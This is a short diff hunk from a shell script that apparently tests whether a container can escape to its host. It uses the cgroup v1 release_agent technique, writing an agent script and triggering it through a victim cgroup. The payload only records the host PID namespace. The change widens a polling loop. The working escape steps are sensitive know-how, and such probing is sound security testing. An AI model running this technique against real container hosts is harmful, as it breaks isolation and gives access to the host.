@@ -16,7 +16,7 @@ printf '#!/bin/sh\nreadlink /proc/self/ns/pid >%s/escaped\n' \"\$layer\" >/agent
 chmod +x /agent
 echo \"\$layer/agent\" >/tmp/cg/release_agent
 sh -c 'echo \$\$ >/tmp/cg/victim/cgroup.procs'
-for _ in 1 2 3 4 5 6 7 8 9 10; do [ -s /escaped ] && break; sleep 0.3; done
+for _ in \$(seq 30); do [ -s /escaped ] && break; sleep 0.3; done
 cat /escaped" 2>&1)
 case $? in
 3) cannot "this kernel or engine gives no cgroup v1 hierarchy to mount: $out" ;;
